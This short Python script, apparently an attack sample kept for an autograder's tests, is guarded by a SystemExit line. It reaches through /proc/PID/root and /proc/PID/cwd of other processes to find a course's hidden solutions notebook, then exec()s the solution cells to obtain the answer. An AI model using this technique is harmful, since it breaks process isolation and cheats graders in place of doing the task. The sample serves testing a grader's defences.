"""Reaches around its own view of the disk, through /proc/PID/root and /proc/PID/cwd of other processes."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import json
from pathlib import Path

for process in Path("/proc").glob("[0-9]*"):
    for view in (process / "root", process / "cwd"):
        for place in (view / COURSE.strip("/"), view, view / "..", view / "../.."):
            try:
                text = (place / "solutions" / WEEK / "lab.ipynb").read_text()
            except OSError:  # not there, or not for us
                continue
            for cell in json.loads(text)["cells"]:
                if cell["id"].endswith("-solution"):
                    exec("".join(cell["source"]), globals())

# %% answer
NAME = globals()["NAME"]
